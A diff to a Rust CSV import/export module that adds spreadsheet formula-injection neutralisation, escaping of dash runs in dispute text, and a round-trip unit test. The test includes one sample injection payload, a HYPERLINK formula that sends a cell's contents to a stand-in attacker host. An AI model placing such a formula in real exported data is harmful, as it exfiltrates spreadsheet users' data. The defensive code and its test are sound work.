@@ -7,11 +7,48 @@
 //! follow after ` -- `), people are `people_min`, `people_max`, `people_wording`, and points
 //! are `lon`, `lat`. Inside lists a backslash escapes `; # @ | = \` (a locator such as
 //! `location\; renovation`).
+//!
+//! Cells a spreadsheet would run as a formula are neutralised on export the way OWASP's "CSV
+//! Injection" guidance and ASVS 5.0 (1.2.10) ask: a single quote before a cell that starts with
+//! `=`, `+`, `-`, `@`, tab, carriage return or NUL ([`neutralise`]). The reader takes exactly
+//! that quote off again ([`unneutralise`]), so nkmap reads its own exports back unchanged; a
+//! value that itself starts with quotes before such a character gets one more quote, so the
+//! mapping is one to one.
 
 use super::{Diagnostic, Location};
 use crate::io::record::{RawRecord, milestone_name};
 use crate::model::{Dataset, Dispute, Evidence, Milestone, MilestoneKind};
 use serde_json::{Map, Value, json};
+use std::borrow::Cow;
+
+/// What makes a spreadsheet read a cell as a formula when it comes first (OWASP's list, and
+/// NUL from ASVS 5.0 1.2.10).
+const FORMULA_START: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\0'];
+
+/// The cell, past any leading single quotes, starts as a formula would.
+fn formula_like(cell: &str) -> bool {
+    cell.trim_start_matches('\'').starts_with(FORMULA_START)
+}
+
+/// A cell as the exporter writes it: a single quote before anything a spreadsheet would run
+/// (`=HYPERLINK(…)` becomes `'=HYPERLINK(…)`, shown as text), and before a value that already
+/// starts with quotes and then such a character (`'=x` becomes `''=x`).
+pub fn neutralise(cell: &str) -> Cow<'_, str> {
+    if formula_like(cell) {
+        Cow::Owned(format!("'{cell}"))
+    } else {
+        Cow::Borrowed(cell)
+    }
+}
+
+/// A cell as the reader takes it: [`neutralise`] undone (exactly one leading quote removed
+/// when a formula character follows the quotes).
+pub fn unneutralise(cell: &str) -> &str {
+    match cell.strip_prefix('\'') {
+        Some(rest) if formula_like(rest) => rest,
+        _ => cell,
+    }
+}
 
 /// Columns in the order the writer puts them.
 pub const COLUMNS: &[&str] = &[
@@ -368,6 +405,7 @@ pub(crate) fn read_rows(
             }
         }
         let line = record.position().map_or(line, |p| p.line() as usize);
+        let record: ::csv::StringRecord = record.iter().map(|c| unneutralise(c.trim())).collect();
         if record.iter().all(|c| c.trim().is_empty()) {
             continue;
         }
@@ -375,7 +413,7 @@ pub(crate) fn read_rows(
             .iter()
             .position(|h| h == "id")
             .and_then(|i| record.get(i))
-            .map(|s| s.trim().to_string())
+            .map(|s| super::short_id(s.trim()))
             .filter(|s| !s.is_empty());
         let loc = Location::Row { line, id };
         if record.len() != header.len() {
@@ -412,6 +450,24 @@ fn evidence_text(ev: &[Evidence]) -> String {
         .join(";")
 }
 
+/// A backslash before each `-` of a run of two or more in an escaped dispute (its field,
+/// value and evidence), so it can never hold, or make with the separator after it, the ` -- `
+/// that starts the note. (`escape` makes no dashes, so runs are the text's own.)
+fn escape_dash_runs(s: &str) -> String {
+    let chars: Vec<char> = s.chars().collect();
+    let mut out = String::with_capacity(s.len());
+    for (i, c) in chars.iter().enumerate() {
+        let run = *c == '-'
+            && (i.checked_sub(1).and_then(|j| chars.get(j)) == Some(&'-')
+                || chars.get(i + 1) == Some(&'-'));
+        if run {
+            out.push('\\');
+        }
+        out.push(*c);
+    }
+    out
+}
+
 fn disputes_text(d: &[Dispute]) -> String {
     d.iter()
         .map(|d| {
@@ -420,7 +476,8 @@ fn disputes_text(d: &[Dispute]) -> String {
                 s.push('@');
                 s.push_str(&evidence_text(&d.evidence));
             }
-            if let Some(n) = &d.note {
+            let mut s = escape_dash_runs(&s);
+            if let Some(n) = d.note.as_ref().filter(|n| !n.is_empty()) {
                 s.push_str(" -- ");
                 s.push_str(&escape(n));
             }
@@ -588,8 +645,46 @@ pub fn write_csv(data: &Dataset) -> String {
     // Writing to a Vec cannot fail; an error here would mean a bug in the csv crate.
     let _ = w.write_record(COLUMNS);
     for r in &rows {
-        let _ = w.write_record(r);
+        let _ = w.write_record(r.iter().map(|c| neutralise(c).into_owned()));
     }
     let bytes = w.into_inner().unwrap_or_default();
     String::from_utf8(bytes).unwrap_or_default()
+}
+
+#[cfg(test)]
+#[allow(clippy::unwrap_used)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn formula_cells_are_quoted_and_read_back() {
+        for (value, written) in [
+            (
+                "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
+                "'=HYPERLINK",
+            ),
+            ("+1", "'+1"),
+            ("-1", "'-1"),
+            ("@SUM(A1)", "'@SUM"),
+            ("\tx", "'\tx"),
+            ("\rx", "'\rx"),
+            ("\0x", "'\0x"),
+            // Quotes before a formula character get one more, so they survive.
+            ("'=x", "''=x"),
+            ("''+x", "'''+x"),
+            // Nothing to do: plain text, a quote before text, a formula character later.
+            ("Kusong", "Kusong"),
+            ("'tis", "'tis"),
+            ("a=b", "a=b"),
+            ("'", "'"),
+        ] {
+            let cell = neutralise(value);
+            assert!(cell.starts_with(written), "{value:?} written as {cell:?}");
+            assert!(
+                !cell.starts_with(FORMULA_START),
+                "{value:?} written as {cell:?}"
+            );
+            assert_eq!(unneutralise(&cell), value, "{value:?} via {cell:?}");
+        }
+    }
 }
